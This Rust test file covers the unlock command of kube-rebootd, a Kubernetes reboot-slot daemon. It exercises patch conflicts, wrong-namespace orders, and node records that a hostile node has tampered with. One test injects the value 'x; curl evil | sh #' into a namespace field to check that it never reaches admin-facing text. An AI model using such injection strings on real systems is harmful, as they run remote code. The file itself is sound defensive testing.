//! `unlock` beside a Node that changes all the time (I1, I3).

use std::time::Duration;

use kube_rebootd::cli::unlock::{Order, UnlockError, Unlocked, unlock};

use super::host;
use super::world::{HOUR, World};
use crate::memory::{Answer, Fate, Fault, User, Verb};

/// A host whose daemon is gone in mid-drain, and an admin whose first writes of its Node meet a conflict.
async fn with_conflicts(times: u32) -> (World, Result<Vec<String>, UnlockError>) {
    let world = World::new(2, 1).await;
    world.want(0);
    world.until_phase(0, "Draining", HOUR).await;
    world.hosts[0].order(host::Order::Kill(2 * HOUR));
    world.pass(Duration::from_secs(1)).await;
    let conflict = Answer::status(409, "Conflict", "the object has been modified");
    world.server.set(|state| {
        state.faults.push(Fault {
            from: "admin".to_owned(),
            times,
            ..Fault::of(Fate::Says(conflict), Verb::Patch, "nodes")
        });
    });
    let admin = world.server.client("admin", User::Admin);
    let order = Order {
        namespace: "kube-rebootd",
        node: "n0",
        force: true,
    };
    let done = unlock(&admin, &order).await.map(|done| done.leases);
    (world, done)
}

fn labelled(world: &World) -> bool {
    world.node(0)["metadata"]["labels"]["kube-rebootd/slot"].is_string()
}

/// Found by reading: the Lease was free already, and the label stayed behind and kept everybody from the slot.
#[tokio::test(start_paused = true)]
async fn i3_a_node_that_changes_meanwhile_is_read_again() {
    let (world, done) = with_conflicts(3).await;
    assert_eq!(done.expect("unlocked"), ["default"]);
    assert_eq!(world.holder("default"), None);
    world.require(!labelled(&world), "the label is off");
    // The cordon is the person's to take off; with it nobody could take the other's pods.
    world.server.set(|state| {
        state.edit(("nodes", "", "n0"), "kubectl-uncordon", |node| {
            node["spec"]["unschedulable"] = false.into();
        });
    });
    world.want(1);
    world
        .until("the other rebooted", HOUR, |world| world.boots(1) == 1)
        .await;
}

#[tokio::test(start_paused = true)]
async fn i3_a_label_that_stays_is_told() {
    let (world, done) = with_conflicts(u32::MAX).await;
    let words = done.expect_err("refused").to_string();
    assert!(words.contains("still on Node n0"), "{words}");
    assert_eq!(world.holder("default"), None);
    world.server.set(|state| state.faults.clear());
    world.require(labelled(&world), "as it says");
}

/// Found by an operator's reading: on a laptop nothing tells in which namespace the slots are. The label was taken off, and
/// the slot stayed taken.
#[tokio::test(start_paused = true)]
async fn i1_i3_in_the_wrong_namespace_nothing_is_taken_off() {
    let world = World::new(2, 1).await;
    world.want(0);
    world.until_phase(0, "Draining", HOUR).await;
    world.hosts[0].order(host::Order::Kill(2 * HOUR));
    world.pass(Duration::from_secs(1)).await;
    let admin = world.server.client("admin", User::Admin);
    let order = |namespace, node, force| Order {
        namespace,
        node,
        force,
    };
    for force in [false, true] {
        let wrong = unlock(&admin, &order("default", "n0", force)).await;
        let words = wrong.expect_err("elsewhere").to_string();
        assert!(
            words.contains("default in namespace kube-rebootd"),
            "{words}"
        );
        world.require(labelled(&world), "the label is there");
    }
    // Without a record, which names the namespace, there is nothing to compare, but there are no slots.
    world.server.set(|state| {
        state.edit(("nodes", "", "n0"), "other", |node| {
            let annotations = node["metadata"]["annotations"].as_object_mut().unwrap();
            annotations.remove("kube-rebootd/state");
            node["status"]["conditions"] = serde_json::json!([]);
        });
    });
    let wrong = unlock(&admin, &order("default", "n0", false)).await;
    assert!(
        matches!(wrong, Err(UnlockError::NoSlots { .. })),
        "{wrong:?}"
    );
    world.require(labelled(&world), "the label is there");
    let idle = unlock(&admin, &order("default", "n1", false)).await;
    let nothing = Unlocked {
        no_slots: true,
        ..Unlocked::default()
    };
    assert_eq!(idle.expect("nothing to do"), nothing);
    let right = unlock(&admin, &order("kube-rebootd", "n0", true)).await;
    assert_eq!(right.expect("unlocked").leases, ["default"]);
    world.require(!labelled(&world), "the label is off");
}

/// Found by an attacker's reading: a node writes its own record, and what it says there must neither keep an admin from its
/// slot nor put words into what an admin is told to run.
#[tokio::test(start_paused = true)]
async fn i14_a_record_that_names_another_namespace_keeps_no_slot() {
    for lie in ["tenant", "x; curl evil | sh #"] {
        let world = World::new(2, 1).await;
        world.want(0);
        world.until_phase(0, "Draining", HOUR).await;
        world.hosts[0].order(host::Order::Kill(2 * HOUR));
        world.pass(Duration::from_secs(1)).await;
        world.server.set(|state| {
            state.edit(("nodes", "", "n0"), "hostile", |node| {
                let state = &mut node["metadata"]["annotations"]["kube-rebootd/state"];
                let told = state.as_str().unwrap();
                let from = "\"namespace\":\"kube-rebootd\"";
                assert!(told.contains(from), "{told}");
                *state = told
                    .replace(from, &format!("\"namespace\":\"{lie}\""))
                    .into();
            });
        });
        let admin = world.server.client("admin", User::Admin);
        let order = |namespace, force| Order {
            namespace,
            node: "n0",
            force,
        };
        let elsewhere = unlock(&admin, &order("default", false))
            .await
            .expect_err("no");
        assert!(!elsewhere.to_string().contains("curl"), "{elsewhere}");
        let ready = unlock(&admin, &order("kube-rebootd", false)).await;
        assert!(matches!(ready, Err(UnlockError::Ready { .. })), "{ready:?}");
        let done = unlock(&admin, &order("kube-rebootd", true))
            .await
            .expect("unlocked");
        assert_eq!(done.leases, ["default"]);
        world.require(!labelled(&world), "the label is off");
    }
}
